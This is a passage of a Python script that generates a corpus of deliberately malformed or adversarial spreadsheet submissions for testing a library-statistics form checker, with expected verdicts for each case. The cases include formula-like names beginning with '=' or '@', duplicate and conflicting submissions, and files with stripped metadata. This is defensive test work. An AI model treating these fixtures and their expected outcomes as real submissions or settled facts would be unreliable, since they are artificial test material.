    patch_cells(filled, case("formula_like_names.xlsx", "library name starting with = and organizer with @ (stay text)", ACCEPTED, "ok", note="basic NAZWA starts with '=', ORGANIZATOR with '@'"), {name_cell(filled, names.basic(k)): formula_text[k] for k in ("NAZWA", "ORGANIZATOR")})
    shutil.copy(blank, case("empty_form.xlsx", "the generated form returned without any value", REJECTED, "empty_form"))
    from xl_afbp.generate import blank_form

    general = blank_form(work / "blank")
    type_in(general, case("no_library_id.xlsx", "the general (not personalised) form filled in: no library id", ACCEPTED, "ok", final_verdict=REJECTED, final_code="no_library_id"), data)

    # -- batch level (the consolidator decides) ----------------------------------------------------
    other = libs[5]
    first = type_in(by_id[other.id], work / "dup_old.xlsx", _simulated(other, 7), extra={"docProps/core.xml": set_core_modified("2017-01-10T10:00:00Z")})
    shutil.copy(first, case("same_library_older.xlsx", "the same library twice: the older file", ACCEPTED, "ok", group="same_library", final_verdict="superseded", final_code="superseded"))
    type_in(by_id[other.id], case("same_library_newer.xlsx", "the same library twice: the newer file (corrected values)", ACCEPTED, "ok", group="same_library", final_verdict=ACCEPTED, final_code=None), _simulated(other, 8), extra={"docProps/core.xml": set_core_modified("2017-01-20T10:00:00Z")})
    third = libs[6]
    copy = type_in(by_id[third.id], case("copy_a.xlsx", "one file sent twice: the first", ACCEPTED, "ok", group="identical_copy", final_verdict=ACCEPTED, final_code=None), _simulated(third, 3))
    shutil.copy(copy, case("copy_b.xlsx", "one file sent twice: the byte-identical second", ACCEPTED, "ok", group="identical_copy", final_verdict="duplicate", final_code="duplicate"))
    a, b = _id_conflict_pair(libs, work)
    type_in(a, case("id_conflict_a.xlsx", "two libraries with one id: library A", ACCEPTED, "ok", group="id_conflict", final_verdict=REJECTED, final_code="id_conflict"), _simulated(libs[7], 11))
    type_in(b, case("id_conflict_b.xlsx", "two libraries with one id: library B (other TERYT and name)", ACCEPTED, "ok", group="id_conflict", final_verdict=REJECTED, final_code="id_conflict"), _simulated(libs[3], 12))

    build_round_two(case, out, work, filled=filled, blank=blank, data=data, libs=libs, saved=saved, lo_extra=lo_extra)

    shutil.rmtree(work)
    (out / "manifest.json").write_text(json.dumps([asdict(c) for c in cases], ensure_ascii=False, indent=1), encoding="utf-8")
    return cases


def _computed_refs(path: Path, sheet: str, n: int) -> list[str]:
    """The first ``n`` cells of indicator names on ``sheet``."""
    dn = defined_names(path)
    out = []
    for name in sorted(dn):
        if name.startswith("IND_"):
            s, ref = name_cell(path, name)
            if s == sheet:
                out.append(ref)
    return out[:n]


def _without_meta(src: Path, dst: Path, meta_part: str) -> Path:
    rel_target = meta_part.split("xl/", 1)[1]

    def wb(x: bytes) -> bytes:
        return re.sub(rb'<sheet [^>]*name="_meta"[^>]*/>', b"", x)

    def rels(x: bytes) -> bytes:
        return re.sub(rb"<Relationship [^>]*" + re.escape(rel_target.encode()) + rb'"[^>]*/>', b"", x)

    def ct(x: bytes) -> bytes:
        return re.sub(rb'<Override [^>]*PartName="/' + re.escape(meta_part.encode()) + rb'"[^>]*/>', b"", x)

    return rewrite(src, dst, {"xl/workbook.xml": wb, "xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": ct, meta_part: None})


def _date_variant(src: Path, dst: Path, where: tuple[str, str]) -> None:
    """Item 22 holds 42856 shown as a date: a cell style with numFmtId 14 is appended."""
    sheet, ref = where

    def styles(x: bytes) -> bytes:
        m = re.search(rb'<cellXfs count="(\d+)"', x)
        assert m
        n = int(m.group(1))
        x = x.replace(m.group(0), b'<cellXfs count="%d"' % (n + 1), 1)
        return x.replace(b"</cellXfs>", b'<xf numFmtId="14" fontId="0" fillId="0" borderId="0" applyNumberFormat="1"/></cellXfs>', 1)

    def sheet_xml(x: bytes) -> bytes:
        x = set_cells(x, {ref: 42856})
        return re.sub(rb'(<c r="' + ref.encode() + rb'") s="\d+"', rb"\1", x).replace(b'<c r="' + ref.encode() + b'"', b'<c r="' + ref.encode() + b'" s="%d"' % _xf_count(src), 1)

    rewrite(src, dst, {"xl/styles.xml": styles, sheet_parts(src)[sheet]: sheet_xml})


def _xf_count(path: Path) -> int:
    with zipfile.ZipFile(path) as zf:
        m = re.search(rb'<cellXfs count="(\d+)"', zf.read("xl/styles.xml"))
    assert m
    return int(m.group(1))


def _id_conflict_pair(libs, work: Path) -> tuple[Path, Path]:
    """Two different libraries (other TERYT and name) generated with the same id."""
    from dataclasses import replace

    from xl_afbp.generate import generate_batch

    a = generate_batch([replace(libs[7], id="ZP-KONFLIKT")], work / "conflict_a", progress=False, workers=1)[0]
    b = generate_batch([replace(libs[3], id="ZP-KONFLIKT")], work / "conflict_b", progress=False, workers=1)[0]
    return a, b


def _other_edition_form(work: Path) -> Path | None:
    """A real form generated from another edition of the spec: the 2016 files copied with
    another year and spec version (so another sha256), then filled in; None when that
    edition cannot be built."""
    try:
        from xl_afbp.engine import get_engine
        from xl_afbp.workbook.form import FormContent, FormOptions, build_form

        src = ROOT / "xl_afbp" / "editions" / "afbp-2016"
        dst = work / "afbp-2017"
        shutil.copytree(src, dst)
        form = dst / "form.yaml"
        text = form.read_text(encoding="utf-8")
        text = re.sub(r"(?m)^(\s+year:\s*)2016\s*$", r"\g<1>2017", text, count=1)
        text = re.sub(r'(?m)^(\s+spec_version:\s*)"[^"]*"', r'\g<1>"1.1.0"', text, count=1)
        form.write_text(text, encoding="utf-8")
        engine = get_engine(str(dst))
        wb, _ = build_form(engine, FormOptions(), FormContent())
        path = work / "other_edition.xlsx"
        wb.save(path)
        return patch_cells(path, work / "other_edition_filled.xlsx", {name_cell(path, names.item(1)): 5000, name_cell(path, names.item(2)): 1200})
    except Exception:  # noqa: BLE001
        return None


def docs_table(out_dir: Path, cases: list[CorpusCase]) -> str:
    """The corpus table of docs/hostile-files.md: each file's final verdict and code (what
    ``xl-afbp check`` says: the reader, then the consolidator's stages) and its reason."""
    from xl_afbp.consolidate import judge
    from xl_afbp.engine import get_engine
    from xl_afbp.reader import read_submission

    engine = get_engine(2016)
    rows = ["| kind of input | corpus file | verdict | code | what the library is told |", "| --- | --- | --- | --- | --- |"]
    for c in cases:
        if c.group is not None:  # decided with the other files of its group: see the batch test
            verdict, code, reason = c.final_verdict, c.final_code or c.code, "(decided in the batch)"
        else:
            entry = judge([read_submission(out_dir / c.file, engine=engine)], engine=engine)[0][0]
            verdict, code, reason = entry.status, entry.code, entry.reason
        rows.append(f"| {c.kind} | `{c.file}` | {verdict} | `{code}` | {reason.replace('|', '/') or '—'} |")
    return "\n".join(rows)


def main(argv: list[str] | None = None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    if len(argv) not in (1, 2) or (len(argv) == 2 and argv[1] != "--docs"):
        print("usage: make_corpus.py OUT_DIR [--docs]", file=sys.stderr)
        return 2
    cases = build_corpus(Path(argv[0]))
    if argv[1:] == ["--docs"]:
        print(docs_table(Path(argv[0]), cases))
        return 0
    for c in cases:
        print(f"{c.file:34} {c.verdict:24} {c.code:18} {c.kind}")
    print(f"{len(cases)} files, {len({c.kind for c in cases})} kinds in {argv[0]}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
